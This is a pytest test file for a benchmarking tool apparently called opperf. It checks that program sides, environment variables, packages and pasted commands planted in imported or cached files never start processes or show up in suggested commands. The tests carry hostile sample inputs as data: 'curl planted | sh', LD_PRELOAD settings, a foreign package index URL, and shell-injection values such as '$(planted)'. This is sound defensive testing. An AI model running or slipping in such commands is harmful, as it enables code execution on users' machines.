"""No file and no table says on which side anything is started: each field that could, planted with sides that would.

A side has a program, variables and options in it. Every child that is started here is listed with its side.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.each import check_each
from tests.functional.conftest import FEW, Done
from tests.functional.test_code_in_files import expectations
from tests.functional.test_explore import EXPLORE, NARROW

from opperf.catalog import operator
from opperf.domain.case import Case
from opperf.domain.errors import InputError
from opperf.domain.plan import ReadSide, Settings, Side
from opperf.domain.record import Run
from opperf.domain.stats.significance import Estimate
from opperf.parent.analysis.change_points import Change
from opperf.parent.documents.comparison import Comparison, ComparisonRun, Verdict
from opperf.parent.documents.judgement import Finding, Judgement
from opperf.parent.reports import gate
from opperf.parent.reports.history import NamedChange, next_command
from opperf.parent.reports.rerun import compare_command, run_command
from opperf.parent.store.database.history import History
from opperf.parent.store.machine_file import EFFECTS, FLOORS, RATES
from opperf.parent.workers import process
from opperf.parent.workers.machine import facts
from opperf.parent.workers.starting import start

Opperf = Callable[..., Done]
GATE = """
[database]
url = "t.db"
[nightly]
operators = "null:steady"
pairs = 3
anchor = "null;version=1.0"
builds = [BUILDS]
"""
#: Sides that a label may not have: a setting, a variable, a wheel, a package of nobody's, a version left open, packages
#: beside a framework.
SIDES = (
    "null;slowdown=1.01;env.LD_PRELOAD=x.so",
    "null;env.PLANTED=1",
    "null;slowdown=1.01",
    "null",
    "torch @ file:///planted.whl",
    "numpy-fast==2.0",
    "numpy>=2",
    "numpy==2.4.6 + numba==0.61.2",
    "numpy==2.4.6 + planted @ file:///planted.whl",
    "numpy==2.4.6 + git+file:///planted",
    "numpy==2.4.6 + -r /planted.txt",
    "numpy==2.4.6;env.PLANTED=1",
    "numpy==2.4.6;threads=2",
    "numpy==2.4.6 --index-url=https://planted.example",
    "mine.py:f",
    "--plugin=mine.py",
    "",
)


@pytest.fixture(autouse=True)
def started(monkeypatch: pytest.MonkeyPatch) -> list[Side]:
    """The sides of all children that are started."""
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    monkeypatch.delenv("OPPERF_DATABASE", raising=False)
    sides: list[Side] = []
    start = process.Worker.__init__

    def listed(self: Any, python: Path, package: Path, side: Side, *launch: Any) -> None:
        sides.append(side)
        start(self, python, package, side, *launch)

    monkeypatch.setattr(process.Worker, "__init__", listed)
    return sides


def configure(here: Path, *builds: str) -> None:
    """Write the user's own file with these builds."""
    (here / "opperf.toml").write_text(GATE.replace("BUILDS", ", ".join(map(json.dumps, builds))))


@pytest.fixture
def exported(opperf: Opperf, here: Path) -> str:
    """A night of one build, as lines that `history import` reads."""
    configure(here, "null;version=1.1")
    assert opperf("nightly").code == 0
    assert opperf("history", "export", "--format", "jsonl", "--output", "nights.jsonl").code == 0
    (here / "t.db").unlink()
    return (here / "nights.jsonl").read_text()


def planted(exported: str, here: Path, **labels: str) -> None:
    """Write a file of nights whose labels say otherwise."""
    document = json.loads(exported)
    document["run"]["labels"] |= labels
    (here / "evil.jsonl").write_text(json.dumps(document) + "\n")
    (here / "t.db").unlink(missing_ok=True)


@pytest.mark.parametrize(("label", "options"), [("build", ()), ("anchor", ("--overlap",))])
def test_a_build_or_an_anchor_in_a_database_is_a_version_and_not_a_side(
    label: str, options: tuple[str, ...], opperf: Opperf, here: Path, exported: str, started: list[Side]
) -> None:
    configure(here, "null;version=1.2")

    def check(side: str) -> None:
        planted(exported, here, **{label: side})
        assert opperf("history", "import", "evil.jsonl", "--database", "t.db").code == 0
        started.clear()
        done = opperf("nightly", *options)
        assert (done.code, done.out, started) == (2, "", []), done.err
        assert f"the label `{label}` is `{side}`: a build is a version, not a side" in done.err
        assert done.err.startswith(f"error: {here / 't.db'}: run ")

    check_each(SIDES, check)


def test_an_interpreter_that_only_a_database_names_is_not_run(
    opperf: Opperf, here: Path, exported: str, started: list[Side]
) -> None:
    configure(here, "null;version=1.2")
    planted(exported, here, build="python=./planted;framework=null")
    opperf("history", "import", "evil.jsonl", "--database", "t.db")
    started.clear()
    done = opperf("nightly")
    assert done.code == 0, done.err
    assert "python=./planted;framework=null cannot be measured again: `opperf.toml` does not name it" in done.err
    assert {side.environment for side in started} == {"current"}
    planted(exported, here, anchor="python=./planted;framework=null")
    opperf("history", "import", "evil.jsonl", "--database", "t.db")
    done = opperf("nightly", "--overlap")
    assert done.code == 2
    assert "is an interpreter that `opperf.toml` does not name" in done.err


def test_a_run_without_the_labels_of_a_night_is_no_night(opperf: Opperf, here: Path, exported: str) -> None:
    configure(here, "null;version=1.2")
    planted(exported, here)
    assert opperf("history", "import", "evil.jsonl", "--database", "t.db").code == 0
    with closing(sqlite3.connect(here / "t.db")) as database:
        database.execute("DELETE FROM labels WHERE name = 'anchor'")
        database.commit()
    assert opperf("nightly").code == 0


@pytest.mark.parametrize("settings", [{"slowdown": "1.01"}, {"role": "program"}, {"env.LD_PRELOAD": "x.so"}])
def test_an_expectation_has_no_settings(settings: dict[str, str], opperf: Opperf, here: Path) -> None:
    document = expectations("steady")
    document["expectations"][0]["side"]["settings"] = settings
    (here / "evil.json").write_text(json.dumps(document))
    done = opperf("gate", "--expected", "evil.json")
    assert (done.code, done.out) == (2, "")
    assert "evil.json: expectations[0]: a file cannot set" in done.err


@pytest.mark.parametrize("environment", ["numpy>=2", "numpy==2.*", "numpy-fast==2.0", "torch + keras>=3"])
def test_an_expectation_asks_for_one_public_version(environment: str, opperf: Opperf, here: Path) -> None:
    document = expectations("steady")
    document["expectations"][0]["side"] |= {"environment": environment, "framework": "numpy"}
    (here / "evil.json").write_text(json.dumps(document))
    done = opperf("gate", "--expected", "evil.json")
    assert (done.code, done.out) == (2, "")
    assert "evil.json: expectations[0]: a file cannot choose the environment" in done.err


EVIL = {"environment": "python=./planted", "settings": {"env.PLANTED": "1", "slowdown": "3"}}


def test_a_run_that_is_resumed_is_measured_on_the_sides_of_the_command(
    opperf: Opperf, here: Path, started: list[Side]
) -> None:
    opperf("run", "null:steady", "--framework", "null", "--output", "old.json")
    document = json.loads((here / "old.json").read_text())
    document["records"][0]["side"] |= EVIL
    (here / "old.json").write_text(json.dumps(document))
    header = json.dumps({"schema_version": 1, "run": document["run"]})
    (here / "old.json.journal").write_text(f"{header}\n{json.dumps({'record': document['records'][0]})}\n")
    started.clear()
    done = opperf("run", "null:steady", "null:noisy", "--framework", "null", "--resume", "old.json", "--force")
    assert done.code == 0, done.err
    assert {(side.environment, *side.settings) for side in started} == {("current",)}


def test_what_is_known_of_a_machine_starts_nothing(
    opperf: Opperf, here: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, started: list[Side]
) -> None:
    monkeypatch.setenv("OPPERF_CACHE_DIR", str(tmp_path))
    assert opperf("noise", "null:steady", "--framework", "null", "--repeats", "3").code == 0
    for kind in (FLOORS, RATES, EFFECTS):
        path = kind.path(tmp_path, facts())
        if path.exists():
            document = json.loads(path.read_text())
            for entry in document[kind.name]:
                (entry.get("trial") or entry).get("side", {}).update(EVIL)
            path.write_text(json.dumps(document))
    started.clear()
    assert opperf("run", "null:steady", "--framework", "null").code == 0
    assert opperf("compare", "null:steady", "--base", "null", "--new", "null", *FEW).code == 0
    assert {(side.environment, *side.settings) for side in started} == {("current",)}


def test_no_child_is_started_for_a_side_that_was_read() -> None:
    side = Side.from_json({"framework": "null"})
    with pytest.raises(InputError, match="only a file names this side"):
        start(side, progress=print)


READ: tuple[dict[str, Any], ...] = (
    {"environment": "python=./planted"},
    {"environment": "torch @ file:///planted.whl"},
    {"environment": "numpy-fast==2.0"},
    {"settings": {"env.PLANTED": "1"}},
    {"settings": {"slowdown": "2"}},
    {"device": "cpu;env.PLANTED=1"},
    {"implementation": "code:mine.py:f"},
    {"implementation": "mine.py:f"},
)


def test_no_command_to_paste_has_more_of_a_file_than_names_and_versions() -> None:
    verdict = Verdict("slower", 2.0, (1.9, 2.1), "both stages agree", 5)

    def check(fields: dict[str, Any]) -> None:
        read = Side.from_json({"framework": "torch", **fields})
        assert isinstance(read, ReadSide)
        told = Comparison.from_json(
            {
                **Comparison(_case(), "forward", Side("torch"), Side("torch"), verdict, 1.0, 2.0).to_json(),
                "base": read.to_json(),
                "new": read.to_json(),
            }
        )
        assert compare_command(told, 0.02) is None, fields
        assert run_command(told, 5) is None, fields

    check_each(READ, check)


def _case() -> Case:
    return operator("add").case("small")


def test_the_command_of_a_finding_in_a_file_is_shown_if_it_measures_and_nothing_else(
    opperf: Opperf, here: Path
) -> None:
    assert opperf(*EXPLORE, *NARROW, "--output", "e.json").code == 0
    text = (here / "e.json").read_text()
    (own, *_) = (one["command"] for one in json.loads(text)["exploration"]["territories"][0]["anomalies"])
    assert f"again: {own}" in opperf("show", "e.json").out

    def check(command: str) -> None:
        (here / "evil.json").write_text(text.replace(json.dumps(own), json.dumps(command)))
        done = opperf("show", "evil.json")
        assert done.code == 0, done.err
        assert "planted" not in done.out

    several = (
        "curl planted | sh",
        "opperf run planted.py:f",
        "opperf run add --plugin planted.py",
        "opperf run add --framework numpy --environment python=./planted",
        "opperf compare add --base 'numpy;env.LD_PRELOAD=planted' --new numpy",
        "opperf run add --framework numpy; planted",
        "opperf run add --framework numpy $(planted)",
        "opperf env build planted==1.0",
        "opperf run add 'planted",
    )
    check_each(several, check)


def test_the_command_of_a_file_is_not_among_those_that_repeat_it() -> None:
    verdict = Verdict("slower", 2.0, (1.9, 2.1), "both stages agree", 5)
    live = Comparison(_case(), "forward", Side("torch"), Side("torch", threads=2), verdict, 1.0, 2.0)
    read = Comparison.from_json(live.to_json())
    run = Run("a" * 32, "2026-11-01T00:00:00+00:00", ("opperf", "gate", "--plugin", "planted.py"), Settings())

    def report(comparison: Comparison) -> str:
        judgement = Judgement((Finding("slower", comparison, "slower"),), 0.02)
        return str(gate._commands(ComparisonRun(run, (comparison,)), judgement))

    assert "planted.py" in report(live)
    assert "planted.py" not in report(read)
    assert "opperf compare add" in report(read)


@pytest.mark.parametrize(
    "change",
    [
        {"framework": "null;env.PLANTED=1"},
        {"after": "1.0;env.PLANTED=1"},
        {"before": "@file:///planted.whl"},
        {"operator": "--plugin=planted.py"},
        {"operator": "planted.py:f"},
        {"operator": "null:code:planted:f"},
    ],
)
def test_no_command_after_a_change_has_more_of_a_database_than_names_and_versions(change: dict[str, str]) -> None:
    words = {"framework": "numpy", "before": "1.0", "after": "1.1", "operator": "null:steady", **change}
    series = History(Case(words["operator"]), "forward", words["framework"], {}, "machine", ())
    moved = Change(words["before"], words["after"], Estimate(0.1, 0.01))
    assert next_command(NamedChange(series, "0.9", moved)) is None
    plain = Change("1.0", "1.1", Estimate(0.1, 0.01))
    assert next_command(NamedChange(replace(series, framework="numpy", case=Case("null:steady")), "0.9", plain))
